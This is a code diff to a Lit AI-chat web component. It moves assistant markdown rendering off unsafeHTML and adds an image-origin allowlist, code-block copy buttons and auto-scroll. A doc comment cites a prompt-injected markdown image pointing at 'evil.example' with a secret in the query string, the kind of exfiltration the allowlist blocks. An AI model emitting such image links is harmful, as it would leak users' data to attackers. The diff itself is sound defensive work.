@@ -2,7 +2,6 @@ import { LitElement, html, nothing, svg } from 'lit';
 import type { PropertyValues, TemplateResult } from 'lit';
 import { property, query } from 'lit/decorators.js';
 import { repeat } from 'lit/directives/repeat.js';
-import { unsafeHTML } from 'lit/directives/unsafe-html.js';
 import { ChatState, ChatStreamController, deriveStopEndpoint } from '../../controllers/chat-stream-controller.js';
 import { AiChatDoneEvent } from '../../events/ai-chat-done-event.js';
 import { AiChatErrorEvent } from '../../events/ai-chat-error-event.js';
@@ -10,11 +9,13 @@ import { AiChatRetryEvent } from '../../events/ai-chat-retry-event.js';
 import { AiChatSendEvent } from '../../events/ai-chat-send-event.js';
 import { AiChatStateEvent } from '../../events/ai-chat-state-event.js';
 import { AiChatTokenEvent } from '../../events/ai-chat-token-event.js';
-import { renderMarkdown } from '../../markdown/render-markdown.js';
+import { enhanceMarkdown } from '../../markdown/enhance-markdown.js';
+import type { StreamingMarkdownOptions } from '../../markdown/streaming-markdown.js';
 import { Route } from '../../protocol.js';
 import type { ChatMessage } from '../../types/chat-message.js';
 import { aiChatStyles } from './ai-chat.styles.js';
 import { defaultStrings } from './default-strings.js';
+import { markdown } from './markdown-directive.js';
 import type { AiChatStrings } from './default-strings.js';
 
 /** Extra request headers, or a (possibly async) function returning them, called once per request. */
@@ -43,6 +44,10 @@ export type AiChatHeaders = Record<string, string> | (() => Record<string, strin
  * @csspart message - Every message bubble.
  * @csspart user - A user message bubble.
  * @csspart assistant - An assistant message bubble (rendered markdown).
+ * @csspart code-block - A code block in an answer: language label, copy button and the `<pre>`.
+ * @csspart code-language - The language label of a code block (from the fence info string).
+ * @csspart copy-button - The "Copy code" button of a code block.
+ * @csspart table - The horizontally scrolling box around a table in an answer.
  * @csspart status - The note under an answer that was stopped or failed.
  * @csspart reconnecting - "Reconnecting…", shown while a dropped stream waits to resume.
  * @csspart retry - The Retry button in the error, shown when a failed answer can be resumed.
@@ -100,6 +105,19 @@ export class AiChat extends LitElement {
   /** URL that is told to stop generating; derived from `endpoint` (`…/stream` → `…/stop`) when not set. */
   @property({ attribute: 'stop-endpoint' }) stopEndpoint: string | undefined;
 
+  /**
+   * Origins whose images may load inside answers, space-separated (`self` = the page's origin). Default: none, so a
+   * prompt-injected `![](https://evil.example/?q=secret)` is shown as a link and never fetched (docs/security.md).
+   */
+  @property({
+    attribute: 'image-origins',
+    converter: {
+      fromAttribute: (value: string | null) => (value ?? '').split(/\s+/).filter(Boolean),
+      toAttribute: (value: string[]) => value.join(' '),
+    },
+  })
+  imageOrigins: string[] = [];
+
   /** Keep the conversation across page loads. */
   @property({ type: Boolean }) persist = false;
 
@@ -117,8 +135,12 @@ export class AiChat extends LitElement {
   @query('[part~="launcher"]') private launcherButton: HTMLButtonElement | null | undefined;
 
   #fallbackConversationId: string | undefined;
-  /** Rendered HTML per message, so a streaming answer does not re-render the whole history on every token. */
-  #htmlCache = new Map<string, { content: string; html: string }>();
+  /** Whether the log was scrolled to (near) the bottom before the last markdown render. */
+  #following = true;
+  /** Options of every assistant bubble's markdown renderer: copy buttons and table scroll boxes after sanitising. */
+  #rendererOptions: StreamingMarkdownOptions = {
+    enhance: (fragment) => enhanceMarkdown(fragment, () => this.#strings),
+  };
 
   #chat = new ChatStreamController(
     this,
@@ -173,12 +195,13 @@ export class AiChat extends LitElement {
   /** Stops any answer and empties the conversation. */
   clear(): void {
     this.#chat.clear();
-    this.#htmlCache.clear();
   }
 
   protected override willUpdate(changed: PropertyValues<this>): void {
     // The controller owns the state; mirroring it here reflects it as an attribute.
     this.state = this.#chat.state;
+    // Read by every block render; blocks already rendered keep the policy they were rendered with.
+    if (changed.has('imageOrigins')) this.#rendererOptions.markdown = { imageOrigins: this.imageOrigins };
     if (changed.has('open') && this.mode === 'launcher' && changed.get('open') !== undefined) {
       this.updateComplete.then(() => (this.open ? this.input?.focus() : this.launcherButton?.focus()));
     }
@@ -199,13 +222,16 @@ export class AiChat extends LitElement {
     return { ...defaultStrings, ...this.strings };
   }
 
-  #html(message: ChatMessage): string {
-    const cached = this.#htmlCache.get(message.id);
-    if (cached && cached.content === message.content) return cached.html;
-    const rendered = renderMarkdown(message.content);
-    this.#htmlCache.set(message.id, { content: message.content, html: rendered });
-    return rendered;
-  }
+  #beforeMarkdown = (): void => {
+    const log = this.log;
+    this.#following = !log || log.scrollHeight - log.scrollTop - log.clientHeight < 120;
+  };
+
+  #afterMarkdown = (): void => {
+    // Streaming answers grow between Lit updates (one render per frame): keep following them.
+    const log = this.log;
+    if (log && this.#following) log.scrollTop = log.scrollHeight;
+  };
 
   private handleSubmit(event: SubmitEvent): void {
     event.preventDefault();
@@ -365,7 +391,16 @@ export class AiChat extends LitElement {
     const note = m.status === 'stopped' ? s.stopped : m.status === 'error' ? s.failed : '';
     return html`
       <div class="turn assistant">
-        <div part="message assistant" data-status=${m.status ?? 'completed'}>${unsafeHTML(this.#html(m))}</div>
+        <div
+          part="message assistant"
+          data-status=${m.status ?? 'completed'}
+          ${markdown(m.content, {
+            streaming: m.status === 'streaming',
+            renderer: this.#rendererOptions,
+            beforeRender: this.#beforeMarkdown,
+            afterRender: this.#afterMarkdown,
+          })}
+        ></div>
         ${
           m.sources?.length
             ? html`<ol part="sources" aria-label=${s.sources}>
